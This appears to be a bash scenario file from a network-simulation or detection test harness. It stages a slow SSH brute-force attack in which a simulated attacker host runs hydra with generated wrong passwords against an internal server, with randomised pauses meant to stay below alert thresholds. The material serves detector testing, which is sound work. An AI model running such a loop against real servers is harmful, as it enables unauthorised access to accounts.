# shellcheck shell=bash
# shellcheck disable=SC2034,SC2154 # variables are shared with the other parts

about="One source tries one password at the ssh server every quarter of a minute, to stay below thresholds."

sizes() {
  usual_sizes
  longest_seconds=2400
  if ((brief)); then tries=4 least_wait=1 lasts=5; else tries=66 least_wait=15 lasts=1170; fi
}

hosts() {
  usual_hosts
  add_host cracker isp attacker 203.0.113.66/24
}

prepare() { make_wrong_passwords "$tries" >"$tmp/cracker/passwords"; }

attacks() {
  local loop="for word in \$(cat passwords); do hydra -I -t 1 -l worker -p \$word ssh://10.77.1.22;"
  loop+=" sleep \$(($least_wait + RANDOM % 5)); done"
  usual_newcomers "$lasts"
  attack slow-brute-force cracker 1900 203.0.113.66 10.77.1.22 tcp 22 bash -c "$loop"
}
